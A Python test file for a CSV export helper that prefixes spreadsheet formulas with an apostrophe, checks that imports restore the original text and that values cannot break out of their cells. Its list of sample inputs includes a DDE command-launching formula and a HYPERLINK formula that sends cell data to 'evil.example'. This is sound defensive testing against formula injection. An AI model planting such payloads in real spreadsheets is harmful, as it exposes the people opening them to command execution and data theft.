"""Formulas in cells are escaped, and an import of an export restores the same values."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from postrider.kit.csv_cells import escape_formula, rows_as_csv, unescape_formula

STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    '"=1',
    "'=1",
    ";=1",
    ",=1",
    '",=1',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_begins_with_an_apostrophe(text):
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Ann", "-5", "+41791234567", "-1,5", "2.5", "a=b", "me@example.com", "'tis"])
def test_other_texts_are_unchanged(text):
    assert escape_formula(text) == text


@given(st.text())
@example("'=1")
@example("''=1")
@example("'tis")
@example("'-5")
def test_importing_an_exported_cell_restores_its_text(text):
    assert unescape_formula(escape_formula(text)) == text


@given(st.lists(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))), max_size=4))
def test_no_cell_of_a_file_is_a_formula(rows):
    raw = rows_as_csv(rows).decode()
    for row in csv.reader(io.StringIO(raw, newline="")):
        for cell in row:
            assert not cell.startswith(STARTS) or cell.lstrip("+-").replace(",", ".", 1).replace(".", "", 1).isdigit()


@given(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), st.sampled_from(STARTS))
def test_a_value_cannot_break_out_of_its_cell(text, start):
    rows = list(csv.reader(io.StringIO(rows_as_csv([["a", f'x"{text}\r\n{start}1', "b"]]).decode(), newline="")))
    assert [len(row) for row in rows] == [3]
